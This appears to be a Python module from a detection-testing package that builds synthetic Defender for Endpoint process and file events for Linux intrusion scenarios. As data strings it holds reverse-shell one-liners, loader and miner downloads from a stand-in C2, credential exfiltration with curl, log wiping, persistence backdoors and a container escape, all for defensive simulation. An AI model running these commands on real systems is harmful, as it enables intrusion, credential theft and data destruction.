"""Linux attacks as Defender for Endpoint records them (DeviceProcessEvents and
DeviceFileEvents).

Each scenario is one intrusion on one of Contoso's VMs. Paths are Ubuntu's (`sh` is
dash), parents are the processes an attacker really lands in (a web worker, an SSH
session, cron, a package manager), and indicators use documentation address ranges.
"""

from __future__ import annotations

from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import linux_host
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario

SH = "/usr/bin/dash"
BASH = "/usr/bin/bash"
C2 = "203.0.113.45"
REVERSE = "203.0.113.9"
DROP = "192.0.2.77"
WALLET = "46E9UkTFqALXNh2mSbA7WGDoa2i6h4WVgUgPVdT9ZdtweLRvAhWmbvuY1dhEmfjHbsavKXo3eGf5ZRb4qJzFXLVHGYH4moQ"


def _root_session(t: Timeline, user: str = "azureuser") -> Process:
    """An SSH login by *user* that becomes root through sudo: the attacker's console."""
    sshd = t.run("access", t.daemon("sshd"), "/usr/sbin/sshd", f"sshd: {user} [priv]", "root")
    login = t.run("access", sshd, BASH, "-bash", user, cwd=f"/home/{user}")
    sudo = t.run("access", login, "/usr/bin/sudo", "sudo -i", "root", after=(5, 40))
    return t.run("access", sudo, BASH, "-bash", "root", cwd="/root")


def _webshell(t: Timeline, stage: str, worker: Process, command: str) -> Process:
    """A command run by a web shell: the app's worker starts `sh -c <command>`."""
    return t.run(stage, worker, SH, f"sh -c {command}", worker.account, after=(20, 240))


@scenario(
    "apt_hook_persistence",
    "linux",
    ("access", "hook_writer", "hook_written", "apt_timer", "hook_executed"),
)
def apt_hook_persistence(ctx: SimContext) -> Stages:
    """A root intruder plants an APT::Update::Pre-Invoke hook that opens a reverse shell
    whenever the daily apt timer refreshes package lists."""
    t = Timeline(
        ctx, "apt_hook_persistence", linux_host("vm-app01"), incident_start(ctx, "apt", (0, 5))
    )
    root = _root_session(t)
    hook = "/etc/apt/apt.conf.d/01cache-refresh"
    tee = t.run("hook_writer", root, "/usr/bin/tee", f"tee {hook}", after=(30, 90))
    t.file("hook_written", tee, "FileCreated", hook, size=131)
    t.wait(3 * 3600, 5 * 3600)
    timer = t.run(
        "apt_timer",
        t.daemon("systemd"),
        "/usr/lib/apt/apt.systemd.daily",
        "/bin/sh /usr/lib/apt/apt.systemd.daily update",
        "root",
    )
    apt = t.run("apt_timer", timer, "/usr/bin/apt-get", "apt-get -qq -y update", "root")
    payload = f'bash -c "bash -i >& /dev/tcp/{REVERSE}/4444 0>&1"'
    hook_sh = t.run("hook_executed", apt, SH, f"sh -c nohup {payload} > /dev/null 2>&1 &")
    t.run("hook_executed", hook_sh, BASH, f"bash -c bash -i >& /dev/tcp/{REVERSE}/4444 0>&1")
    return t.stages


@scenario(
    "kinsing_web_compromise",
    "linux",
    ("download", "download_file", "miner_fetch", "miner_file", "miner_run"),
)
def kinsing_web_compromise(ctx: SimContext) -> Stages:
    """Kinsing-style: a vulnerable web app runs the loader, which fetches and starts a miner."""
    t = Timeline(ctx, "kinsing", linux_host("vm-web01"), incident_start(ctx, "kinsing"))
    worker = t.daemon("gunicorn")
    loader = "/tmp/.d.sh"
    stager = _webshell(
        t,
        "download",
        worker,
        f"curl -fsSL http://{C2}/d.sh -o {loader} && chmod +x {loader} && {loader}",
    )
    curl = t.run("download", stager, "/usr/bin/curl", f"curl -fsSL http://{C2}/d.sh -o {loader}")
    t.file("download_file", curl, "FileCreated", loader, size=8412)
    t.run("download", stager, "/usr/bin/chmod", f"chmod +x {loader}")
    script = t.run("download", stager, loader, f"/bin/bash {loader}", cwd="/tmp")
    miner = "/tmp/kdevtmpfsi"
    wget = t.run(
        "miner_fetch", script, "/usr/bin/wget", f"wget -q http://{C2}/kdevtmpfsi -O {miner}"
    )
    t.file("miner_file", wget, "FileCreated", miner, size=2_643_304, after=(2, 6))
    t.run("miner_fetch", script, "/usr/bin/chmod", f"chmod 777 {miner}")
    t.run(
        "miner_run",
        script,
        miner,
        f"{miner} -o stratum+tcp://pool.supportxmr.com:3333 -u {WALLET} -p x --donate-level 1 -B",
        after=(5, 20),
        cwd="/tmp",
    )
    return t.stages


@scenario(
    "teamtnt_credential_theft",
    "linux",
    ("access", "history_disabled", "cred_search", "cred_files", "imds_token", "exfil"),
)
def teamtnt_credential_theft(ctx: SimContext) -> Stages:
    """TeamTNT-style: after landing in the Java app, switch off shell history, sweep the
    box for cloud credentials and ask the instance metadata service for a token."""
    t = Timeline(ctx, "teamtnt", linux_host("vm-app01"), incident_start(ctx, "teamtnt"))
    java = t.daemon("java")
    shell = t.run("access", java, BASH, "/bin/bash -i", "app", after=(10, 60), cwd="/opt/app")
    t.run(
        "history_disabled",
        shell,
        BASH,
        "bash -c export HISTFILE=/dev/null; export HISTSIZE=0; export HISTFILESIZE=0",
        after=(2, 8),
    )
    t.run(
        "history_disabled",
        shell,
        "/usr/bin/sed",
        "sed -i -e $aHISTSIZE=0 /home/app/.bashrc",
        after=(3, 12),
    )
    t.run(
        "cred_search",
        shell,
        "/usr/bin/find",
        "find / -name credentials -o -name accessTokens.json -o -name msal_token_cache.json "
        "-o -name azureProfile.json 2>/dev/null",
        after=(10, 30),
    )
    for path in (
        "/home/app/.azure/msal_token_cache.json",
        "/home/app/.azure/azureProfile.json",
        "/home/app/.aws/credentials",
        "/home/app/.docker/config.json",
    ):
        t.run("cred_files", shell, "/usr/bin/cat", f"cat {path}", after=(2, 15))
    t.run(
        "imds_token",
        shell,
        "/usr/bin/curl",
        "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token"
        "?api-version=2018-02-01&resource=https://management.azure.com/",
        after=(20, 60),
    )
    tar = t.run(
        "exfil",
        shell,
        "/usr/bin/tar",
        "tar czf /tmp/.c.tgz /home/app/.azure /home/app/.aws",
        after=(10, 40),
    )
    t.file("exfil", tar, "FileCreated", "/tmp/.c.tgz", size=18_233)
    t.run(
        "exfil",
        shell,
        "/usr/bin/curl",
        f"curl -s -F f=@/tmp/.c.tgz http://{DROP}/u.php",
        after=(2, 10),
    )
    return t.stages


@scenario(
    "auto_color_preload", "linux", ("access", "implant_exec", "preload_library", "preload_written")
)
def auto_color_preload(ctx: SimContext) -> Stages:
    """Auto-Color-style: an implant copied under /var/log makes itself load into every
    process through /etc/ld.so.preload."""
    t = Timeline(ctx, "auto_color", linux_host("vm-jump01"), incident_start(ctx, "autocolor"))
    root = _root_session(t, "raj.patel")
    dropper = t.run(
        "implant_exec", root, "/tmp/door-app", "./door-app", cwd="/tmp", after=(20, 120)
    )
    t.file("implant_exec", dropper, "FileCreated", "/var/log/cross/auto-color", size=220_136)
    implant = t.run(
        "implant_exec",
        dropper,
        "/var/log/cross/auto-color",
        "/var/log/cross/auto-color",
        after=(1, 3),
    )
    library = "/usr/lib/x86_64-linux-gnu/libcext.so.2"
    t.file("preload_library", implant, "FileCreated", library, size=61_440)
    t.file("preload_written", implant, "FileCreated", "/etc/ld.so.preload", size=39)
    return t.stages


@scenario(
    "cron_abuse",
    "linux",
    ("cron_recon", "cron_stage", "cron_load", "access", "crond_writer", "crond_drop"),
)
def cron_abuse(ctx: SimContext) -> Stages:
    """A web-shell operator looks at the scheduled jobs, installs its own from /tmp, and
    once root, drops a file into /etc/cron.d."""
    t = Timeline(ctx, "cron_abuse", linux_host("vm-web02"), incident_start(ctx, "cron"))
    node = t.daemon("node")
    for command in (
        "crontab -l",
        "cat /etc/crontab",
        "ls -la /etc/cron.d /var/spool/cron/crontabs",
    ):
        wrapper = _webshell(t, "cron_recon", node, command)
        binary = {"crontab": "/usr/bin/crontab", "cat": "/usr/bin/cat", "ls": "/usr/bin/ls"}
        t.run("cron_recon", wrapper, binary[command.split()[0]], command)
    job = "/tmp/.x/c.txt"
    stage = _webshell(
        t, "cron_stage", node, f"mkdir -p /tmp/.x && echo '*/10 * * * * /tmp/.x/run.sh' > {job}"
    )
    t.file("cron_stage", stage, "FileCreated", job, size=29)
    loader = _webshell(t, "cron_load", node, f"crontab {job}")
    t.run("cron_load", loader, "/usr/bin/crontab", f"crontab {job}")
    root = _root_session(t)
    drop = "/etc/cron.d/.sysupdate"
    writer = t.run(
        "crond_writer",
        root,
        BASH,
        f"bash -c echo '*/5 * * * * root /usr/local/lib/.sysupdate' > {drop}",
        after=(300, 900),
    )
    t.file("crond_drop", writer, "FileCreated", drop, size=46)
    return t.stages


@scenario("log_wiper", "linux", ("access", "dd_wipe", "history_wipe"))
def log_wiper(ctx: SimContext) -> Stages:
    """A wiper script on the database server overwrites logs with dd and destroys shell
    history, as AcidRain- and AwfulShred-style tools do."""
    t = Timeline(ctx, "log_wiper", linux_host("vm-db01"), incident_start(ctx, "wiper", (1, 5)))
    root = _root_session(t)
    script = t.run("access", root, BASH, "bash /var/tmp/.cl.sh", after=(30, 90), cwd="/var/tmp")
    for log, source in (
        ("/var/log/auth.log", "/dev/zero"),
        ("/var/log/syslog", "/dev/urandom"),
        ("/var/log/wtmp", "/dev/zero"),
        ("/var/log/postgresql/postgresql-14-main.log", "/dev/urandom"),
    ):
        t.run(
            "dd_wipe",
            script,
            "/usr/bin/dd",
            f"dd if={source} of={log} bs=1M count=64",
            after=(0.2, 2),
        )
    for command, binary in (
        ("rm -f /root/.bash_history", "/usr/bin/rm"),
        ("ln -sf /dev/null /root/.bash_history", "/usr/bin/ln"),
        ("shred -u -z /home/azureuser/.bash_history", "/usr/bin/shred"),
    ):
        t.run("history_wipe", script, binary, command, after=(0.2, 2))
    return t.stages


@scenario(
    "ssh_backdoor",
    "linux",
    ("access", "ssh_key", "ssh_key_file", "sudo_user", "set_password", "sudoers_file"),
)
def ssh_backdoor(ctx: SimContext) -> Stages:
    """Outlaw-style persistence: a key appended to root's authorized_keys and made
    immutable, then a spare admin account with password-less sudo."""
    t = Timeline(ctx, "ssh_backdoor", linux_host("vm-jump01"), incident_start(ctx, "sshkey"))
    root = _root_session(t, "alice.smith")
    key = (
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC3p8Vb1xq0mZ9tKfJ2yLwQ7sD4nH6cR1eU0aG5vT8oXj mdrfckr"
    )
    writer = t.run(
        "ssh_key",
        root,
        SH,
        f"sh -c mkdir -p /root/.ssh && echo '{key}' >> /root/.ssh/authorized_keys",
        after=(20, 60),
    )
    t.file("ssh_key_file", writer, "FileModified", "/root/.ssh/authorized_keys", size=1_204)
    t.run("ssh_key", root, "/usr/bin/chattr", "chattr +i /root/.ssh/authorized_keys")
    t.run(
        "sudo_user",
        root,
        "/usr/sbin/useradd",
        "useradd -m -s /bin/bash -G sudo backup2",
        after=(30, 120),
    )
    t.run("set_password", root, "/usr/sbin/chpasswd", "chpasswd", after=(2, 6))
    sudoers = t.run(
        "sudo_user",
        root,
        SH,
        "sh -c echo 'backup2 ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/backup2",
        after=(3, 10),
    )
    t.file("sudoers_file", sudoers, "FileCreated", "/etc/sudoers.d/backup2", size=32)
    return t.stages


@scenario(
    "web_discovery", "linux", ("security_tools", "system_info", "user_discovery", "user_list_file")
)
def web_discovery(ctx: SimContext) -> Stages:
    """A web-shell operator takes stock: which security agents run, what the system is,
    who is logged in (saved to /tmp for later)."""
    t = Timeline(ctx, "web_discovery", linux_host("vm-web01"), incident_start(ctx, "discovery"))
    worker = t.daemon("gunicorn")

    def shell(stage: str, command: str, binary: str) -> Process:
        wrapper = _webshell(t, stage, worker, command)
        return t.run(stage, wrapper, binary, command)

    shell(
        "security_tools",
        "find / -maxdepth 4 -type d -iname *mdatp* -o -iname *falcon* -o -iname *sentinelone*",
        "/usr/bin/find",
    )
    shell("security_tools", "ls -la /opt/microsoft/mdatp /etc/opt/microsoft/mdatp", "/usr/bin/ls")
    shell(
        "security_tools",
        "systemctl status mdatp auditd falcon-sensor --no-pager",
        "/usr/bin/systemctl",
    )
    shell("system_info", "cat /proc/version", "/usr/bin/cat")
    shell("system_info", "uname -a", "/usr/bin/uname")
    shell("system_info", "lscpu", "/usr/bin/lscpu")
    wrapper = _webshell(t, "user_discovery", worker, "w -h > /tmp/.u; cat /etc/passwd >> /tmp/.u")
    t.run("user_discovery", wrapper, "/usr/bin/w", "w -h")
    t.file("user_list_file", wrapper, "FileCreated", "/tmp/.u", size=233)
    t.run("user_discovery", wrapper, "/usr/bin/cat", "cat /etc/passwd")
    return t.stages


@scenario("credential_hunting", "linux", ("access", "history_read", "key_hunt"))
def credential_hunting(ctx: SimContext) -> Stages:
    """With a stolen admin login on the jump host, read other people's shell histories
    for secrets and hunt for private keys."""
    t = Timeline(ctx, "credential_hunting", linux_host("vm-jump01"), incident_start(ctx, "creds"))
    root = _root_session(t)
    for command, binary in (
        ("cat /home/alice.smith/.bash_history", "/usr/bin/cat"),
        ("grep -iE pass|token|secret|key /home/raj.patel/.bash_history", "/usr/bin/grep"),
        ("cat /root/.mysql_history", "/usr/bin/cat"),
    ):
        t.run("history_read", root, binary, command, after=(5, 40))
    for command, binary in (
        ("find / -name id_rsa -o -name id_ed25519 -o -name *.ppk 2>/dev/null", "/usr/bin/find"),
        ("grep -rl BEGIN OPENSSH PRIVATE KEY /home /root /opt", "/usr/bin/grep"),
        ("cat /home/raj.patel/.ssh/id_ed25519", "/usr/bin/cat"),
    ):
        t.run("key_hunt", root, binary, command, after=(5, 40))
    return t.stages


@scenario("container_escape", "linux", ("access", "escape", "escape_runtime"))
def container_escape(ctx: SimContext) -> Stages:
    """A poisoned CI job on the build runner starts a privileged container sharing the
    host's pid namespace and root filesystem, then enters the host."""
    t = Timeline(ctx, "container_escape", linux_host("vm-build01"), incident_start(ctx, "escape"))
    listener = t.daemon("runner")
    worker = t.run(
        "access",
        listener,
        "/home/runner/actions-runner/bin/Runner.Worker",
        "/home/runner/actions-runner/bin/Runner.Worker spawnclient 117 120",
    )
    job = t.run(
        "access",
        worker,
        BASH,
        "/usr/bin/bash -e /home/runner/work/_temp/5d0c1f3e-8a1b-4c2e-9f7d-1a2b3c4d5e6f.sh",
    )
    t.run(
        "escape",
        job,
        "/usr/bin/docker",
        "docker run --rm --privileged --pid=host -v /:/host alpine:3.19 "
        "nsenter -t 1 -m -u -i -n -p -- sh -c id",
        after=(5, 20),
    )
    shim = t.run(
        "escape_runtime",
        t.daemon("containerd"),
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id "
        "8c1e5a0f3b7d4e2a9c6b1d0e7f3a5c8b2e4d6f1a3c5e7b9d0f2a4c6e8b1d3f5a -address "
        "/run/containerd/containerd.sock",
        "root",
        after=(1, 3),
    )
    nsenter = t.run(
        "escape", shim, "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p -- sh -c id", "root"
    )
    t.run("escape", nsenter, SH, "sh -c id", "root")
    t.run(
        "escape",
        job,
        "/usr/bin/docker",
        "docker run --rm --privileged -v /:/host alpine:3.19 chroot /host /bin/sh -c "
        "cat /etc/shadow",
        after=(10, 30),
    )
    return t.stages


@scenario("defense_evasion", "linux", ("access", "disable_tools"))
def defense_evasion(ctx: SimContext) -> Stages:
    """Before running a miner, the intruder stops Defender, auditd and the firewall."""
    t = Timeline(ctx, "defense_evasion", linux_host("vm-web02"), incident_start(ctx, "evasion"))
    root = _root_session(t)
    for command, binary in (
        ("mdatp config real-time-protection --value disabled", "/usr/bin/mdatp"),
        ("systemctl stop mdatp", "/usr/bin/systemctl"),
        ("systemctl disable mdatp", "/usr/bin/systemctl"),
        ("systemctl stop auditd", "/usr/bin/systemctl"),
        ("ufw disable", "/usr/sbin/ufw"),
    ):
        t.run("disable_tools", root, binary, command, after=(2, 20))
    return t.stages


@scenario("web_reverse_shell", "linux", ("reverse_shell",))
def web_reverse_shell(ctx: SimContext) -> Stages:
    """Remote code execution in the Node.js app opens interactive shells back to the
    attacker, first with bash's /dev/tcp, then with Python."""
    t = Timeline(ctx, "web_reverse_shell", linux_host("vm-web02"), incident_start(ctx, "revshell"))
    node = t.daemon("node")
    wrapper = _webshell(t, "reverse_shell", node, f"bash -i >& /dev/tcp/{REVERSE}/4444 0>&1")
    t.run("reverse_shell", wrapper, BASH, "bash -i")
    python = (
        "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        f's.connect(("{REVERSE}",4445));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
    )
    t.run("reverse_shell", node, "/usr/bin/python3.10", python, after=(120, 600))
    return t.stages


@scenario(
    "systemd_persistence",
    "linux",
    ("access", "unit_fetch", "unit_staged_file", "unit_copy", "unit_file", "unit_enabled"),
)
def systemd_persistence(ctx: SimContext) -> Stages:
    """A unit file prepared in /tmp is copied into /etc/systemd/system and enabled, so the
    backdoor survives reboots under a name that looks like a system service."""
    t = Timeline(ctx, "systemd_persistence", linux_host("vm-app01"), incident_start(ctx, "systemd"))
    root = _root_session(t)
    unit = "dbus-org.freedesktop.update.service"
    fetch = t.run(
        "unit_fetch",
        root,
        "/usr/bin/curl",
        f"curl -s http://{C2}/s -o /tmp/.u/{unit}",
        after=(30, 90),
    )
    t.file("unit_staged_file", fetch, "FileCreated", f"/tmp/.u/{unit}", size=212)
    copy = t.run("unit_copy", root, "/usr/bin/cp", f"cp /tmp/.u/{unit} /etc/systemd/system/")
    t.file("unit_file", copy, "FileCreated", f"/etc/systemd/system/{unit}", size=212)
    t.run("unit_enabled", root, "/usr/bin/systemctl", f"systemctl enable --now {unit}")
    return t.stages
